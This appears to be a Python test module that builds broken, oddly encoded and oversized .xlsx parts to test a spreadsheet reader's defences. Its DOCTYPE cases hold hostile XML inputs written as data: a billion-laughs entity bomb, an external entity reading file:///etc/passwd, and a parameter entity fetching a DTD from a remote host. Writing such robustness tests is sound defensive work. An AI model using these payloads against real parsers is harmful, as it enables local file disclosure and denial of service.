"""Workbooks whose parts are no XML, are XML of another kind, or declare and hold more than anybody would type."""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import date
from functools import cache, partial

from corpus import File, Table
from crafted_files import added, packed, parts_of, replaced, sheet_part
from read_samples import SHEET_E, at, expected, whole

from shuangyong_metrics.model import MICRO, Status

SHEET = sheet_part(whole(), SHEET_E)
COUNT = at("E8-1").cell
ROW = COUNT[1:]
MEGABYTE = 1024 * 1024
_XML = '<?xml version="1.0" encoding="{0}"?>'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "哈"}">' for n in range(12))
_OPEN = re.compile(r"<(?=[A-Za-z])")


@cache
def expected_rows() -> tuple[str, ...]:
    """The rows of the sheet."""
    return tuple(code for code in expected() if at(code).sheet == SHEET_E)


def lost(make: Callable[[], bytes]) -> File:
    """What must be said when no row of the sheet can be found."""
    told = tuple(("row_missing", SHEET_E, "") for _ in expected_rows())
    return File(make, told=told, answers=dict.fromkeys(expected_rows()))


def text_of(part: str = SHEET) -> str:
    return parts_of(whole())[part].decode()


def part(content: str | bytes, name: str = SHEET) -> bytes:
    """The return with a part replaced."""
    return added(whole(), {name: content if isinstance(content, bytes) else content.encode()})


def head(text: str, name: str = SHEET) -> bytes:
    """Something before the root of a part."""
    return part(text + text_of(name), name)


def rows(xml: str) -> bytes:
    """More rows at the end of the sheet."""
    return replaced(whole(), SHEET, "</sheetData>", f"{xml}</sheetData>")


def after(xml: str) -> bytes:
    """Something behind the rows."""
    return replaced(whole(), SHEET, "</sheetData>", f"</sheetData>{xml}")


def before_rows(xml: str) -> bytes:
    """More columns."""
    return replaced(whole(), SHEET, "</cols>", f"{xml}</cols>")


def book(end: str, xml: str) -> bytes:
    """Something more before a closing tag of the workbook part."""
    return replaced(whole(), "xl/workbook.xml", end, xml + end)


def styled(**lists: str) -> bytes:
    """More entries at the end of lists of the styles."""
    data = whole()
    for name, xml in lists.items():
        data = replaced(data, "xl/styles.xml", f"</{name}>", f"{xml}</{name}>")
    return data


def many(template: str, count: int, first: int = 1) -> str:
    """A piece of XML with running numbers; ``#`` stands for a quotation mark."""
    return "".join(template.replace("#", '"').replace("{n}", str(n)) for n in range(first, first + count))


def inline(cell: str, text: str) -> str:
    """A row of one cell with a text."""
    return f'<row r="{cell[1:]}"><c r="{cell}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _encoded(encoding: str, declared: str = "") -> bytes:
    text = _XML.format(declared or encoding) + text_of()
    return part(text.encode(encoding, errors="xmlcharrefreplace"))


def _doctype(inside: str, name: str = SHEET, encoding: str = "utf-8") -> bytes:
    text = _XML.format(encoding) + f"<!DOCTYPE worksheet [{inside}]>" + parts_of(whole()).get(name, b"<a/>").decode()
    return part(text.encode(encoding), name)


def _prefixed(prefix: str) -> str:
    """Every tag with a prefix."""
    text = _OPEN.sub(f"<{prefix}:", text_of()).replace("</", f"</{prefix}:")
    return text.replace('xmlns="', f'xmlns:{prefix}="')


def _without(*names: str) -> bytes:
    return packed({name: content for name, content in parts_of(whole()).items() if name not in names})


def _everywhere(old: str, new: str) -> bytes:
    return packed({name: content.replace(old.encode(), new.encode()) for name, content in parts_of(whole()).items()})


Cases = dict[str, tuple[Callable[[], bytes], str]]

DECLARED: Cases = {
    "DOCTYPE 空": (partial(_doctype, ""), "doctype"),
    "DOCTYPE 十亿次笑": (partial(_doctype, _LAUGHS), "doctype"),
    "DOCTYPE 外部实体": (partial(_doctype, '<!ENTITY x SYSTEM "file:///etc/passwd">'), "doctype"),
    "DOCTYPE 网上实体": (partial(_doctype, '<!ENTITY % x SYSTEM "http://192.0.2.1/a.dtd">%x;'), "doctype"),
    "DOCTYPE utf-16": (partial(_doctype, "", SHEET, "utf-16"), "doctype"),
    "DOCTYPE 工作簿": (partial(_doctype, "", "xl/workbook.xml"), "doctype"),
    "DOCTYPE 样式": (partial(_doctype, "", "xl/styles.xml"), "doctype"),
    "DOCTYPE 关系": (partial(_doctype, "", "xl/_rels/workbook.xml.rels"), "doctype"),
    "DOCTYPE 类型表": (partial(_doctype, "", "[Content_Types].xml"), "doctype"),
    "DOCTYPE 属性": (partial(_doctype, "", "docProps/core.xml"), "doctype"),
    "DOCTYPE 批注图形": (partial(_doctype, "", "xl/drawings/vmlDrawing1.vml"), "doctype"),
    "DOCTYPE 没人引用的部件": (partial(_doctype, "", "customXml/item1.xml"), "doctype"),
    "DOCTYPE 没有后缀的部件": (partial(_doctype, "", "xl/a"), "doctype"),
    "DOCTYPE 小写": (partial(head, "<!doctype a>"), "broken"),
    "DOCTYPE 在注释后": (partial(head, "<!-- --><!DOCTYPE a>"), "doctype"),
    "编码 gbk": (lambda: _encoded("gbk"), "encoding"),
    "编码 gb18030": (lambda: _encoded("gb18030"), "encoding"),
    "编码 utf-7": (lambda: _encoded("utf-7"), "encoding"),
    "编码 utf-16": (lambda: _encoded("utf-16"), "encoding"),
    "编码 utf-16 无标记": (lambda: _encoded("utf-16-le"), "encoding"),
    "编码 utf-32": (lambda: _encoded("utf-32"), "broken"),
    "编码 iso-8859-1": (lambda: _encoded("iso-8859-1"), "encoding"),
    "编码 cp037": (lambda: _encoded("cp037"), "broken"),
    "编码 没有这种": (lambda: _encoded("utf-8", "x-none"), "encoding"),
    "编码 说的与写的不同": (lambda: _encoded("gbk", "utf-8"), "broken"),
    "编码 utf-16 说成 utf-8": (lambda: _encoded("utf-8", "utf-16"), "broken"),
    "编码 utf-8 有标记": (lambda: part(b"\xef\xbb\xbf" + _XML.format("utf-8").encode() + text_of().encode()), ""),
    "编码 us-ascii": (lambda: part(_XML.format("us-ascii").encode() + text_of().encode("ascii", "xmlcharrefreplace")), ""),
    "版本 1.1": (partial(head, '<?xml version="1.1" encoding="UTF-8"?>'), ""),
    "声明两次": (partial(head, _XML.format("utf-8") * 2), "broken"),
    "声明前有空行": (partial(head, "\n" + _XML.format("utf-8")), "broken"),
}  # fmt: skip

SPOILT: Cases = {
    "部件是空的": (partial(part, ""), "broken"),
    "部件只有空格": (partial(part, "   "), "broken"),
    "部件是零字节": (partial(part, b"\0" * 100), "broken"),
    "部件只有声明": (partial(part, _XML.format("utf-8")), "broken"),
    "标签没有关": (lambda: part(text_of().replace("</row>", "", 1)), "broken"),
    "标签关错了": (lambda: part(text_of().replace("</row>", "</c>", 1)), "broken"),
    "标签大小写不同": (lambda: part(text_of().replace("</row>", "</ROW>", 1)), "broken"),
    "两个根": (lambda: part(text_of() * 2), "broken"),
    "根后有文字": (lambda: part(text_of() + "abc"), "broken"),
    "属性没有引号": (lambda: part(text_of().replace('r="1"', "r=1", 1)), "broken"),
    "属性写了两次": (lambda: part(text_of().replace('<row r="5"', '<row r="5" r="6"', 1)), "broken"),
    "实体没有定义": (partial(rows, "<row><c><v>&nbsp;</v></c></row>"), "broken"),
    "零字符": (partial(rows, "<row><c><v>&#0;</v></c></row>"), "broken"),
    "控制字符": (partial(rows, "<row><c><v>\x01</v></c></row>"), "broken"),
    "控制字符的编号": (partial(rows, "<row><c><v>&#x1F;</v></c></row>"), "broken"),
    "半个代理对": (partial(rows, "<row><c><v>&#xD800;</v></c></row>"), "broken"),
    "不是 utf-8 的字节": (lambda: part(text_of().encode().replace("代码".encode(), b"\xff\xfe", 1)), "broken"),
    "前缀没有定义": (lambda: part(_prefixed("x").replace("xmlns:x", "xmlns:y")), ""),
    "注释在单元格里": (lambda: part(text_of().replace("<v>", "<v><!-- 1 -->", 1)), "odd_xml"),
    "CDATA 在单元格里": (lambda: part(re.sub("<v>(\\d+)</v>", r"<v><![CDATA[\1]]></v>", text_of(), count=1)), "odd_xml"),
    "指令在单元格里": (lambda: part(text_of().replace("<v>", "<v><?a b?>", 1)), "odd_xml"),
    "注释在行之间": (lambda: part(text_of().replace("<row ", "<!-- 第一行 --><row ", 1)), "odd_xml"),
    "工作簿里有注释": (partial(head, "<!-- a -->", "xl/workbook.xml"), ""),
    "样式不成 XML": (partial(part, "<styleSheet", "xl/styles.xml"), "broken"),
    "工作簿不成 XML": (partial(part, "<workbook", "xl/workbook.xml"), "broken"),
    "关系不成 XML": (partial(part, "<Relationships", "xl/_rels/workbook.xml.rels"), "broken"),
    "类型表不成 XML": (partial(part, "<Types", "[Content_Types].xml"), "broken"),
    "自定义属性不成 XML": (partial(part, "<Properties", "docProps/custom.xml"), "broken"),
    "主题不成 XML": (partial(part, "<a", "xl/theme/theme1.xml"), ""),
    "核心属性不成 XML": (partial(part, "<a", "docProps/core.xml"), ""),
}  # fmt: skip

HUGE: Cases = {
    "嵌套十万层": (lambda: after("<a>" * 100_000 + "</a>" * 100_000), ""),
    "属性三十万字": (lambda: after(f'<a b="{"x" * 300_000}"/>'), ""),
    "属性五万个": (lambda: after(f"<a{many(' b{n}=#1#', 50_000)}/>"), ""),
    "命名空间五万个": (lambda: after(f"<a{many(' xmlns:b{n}=#u{n}#', 50_000)}/>"), ""),
    "标签名一兆": (lambda: after(f"<{'a' * MEGABYTE}/>"), ""),
    "没有关的注释": (lambda: part(b"<a>" + b"<!--" * 300_000, "xl/extra.xml"), ""),
    "六十兆文字": (lambda: part(b"<a>" + b"138 0000 \xe5\x85\xb1\xe5\xbb\xba" * 4_000_000 + b"</a>", "xl/extra.xml"), "unreadable"),
    "一格三十万字": (lambda: rows(inline("A90", "团" * 300_000)), ""),
    "一格十万位数": (lambda: rows(f'<row r="90"><c r="M90"><v>{"9" * 100_000}</v></c></row>'), ""),
    "空行二十万": (lambda: rows("<row/>" * 200_000), ""),
    "单元格三十万": (lambda: rows(f"<row>{'<c/>' * 300_000}</row>"), "broken"),
    "格式化空格一万": (lambda: rows(many("<row r=#{n}#>" + "<c s=#1#/>" * 10 + "</row>", 1_000, 100)), ""),
    "合并五千处": (lambda: after(f"<mergeCells>{many('<mergeCell ref=#M{n}:N{n}#/>', 5_000)}</mergeCells>"), ""),
    "合并整列": (lambda: after('<mergeCells><mergeCell ref="L1:XFD1048576"/></mergeCells>'), ""),
    "超链接整列": (lambda: after('<hyperlinks><hyperlink ref="L1:L1048576" location="a"/></hyperlinks>'), ""),
    "列定义十万": (lambda: before_rows('<col min="1" max="16384" width="9"/>' * 100_000), ""),
    "数字格式二十万个方括号": (lambda: styled(numFmts='<numFmt numFmtId="999" formatCode="' + "[" * 200_000 + '"/>'), ""),
    "单元格样式十万": (lambda: styled(cellXfs='<xf numFmtId="0"/>' * 100_000), ""),
    "工作表一万个": (lambda: book("</sheets>", many("<sheet name=#s{n}# sheetId=#{n}# r:id=#rId3#/>", 10_000, 50)), "too_many_sheets"),
    "名称两万个": (lambda: book("</definedNames>", many("<definedName name=#n{n}#>A$1</definedName>", 20_000)), ""),
}  # fmt: skip

FILES: Table = {
    name: File(make, code) for cases in (DECLARED, SPOILT, HUGE) for name, (make, code) in cases.items()
} | {
    "部件是网页": lost(partial(part, "<html><body><p>1<br></body></html>")),
    "样式是空的": File(
        partial(part, "<styleSheet/>", "xl/styles.xml"),
        told=(("date_serial", at("A5-1").sheet, at("A5-1").cell),),
        answers={
            "A5-1": (Status.FILLED, date(2026, 3, 20).toordinal() * MICRO, "46101", at("A5-1").sheet, at("A5-1").cell)
        },
    ),
}
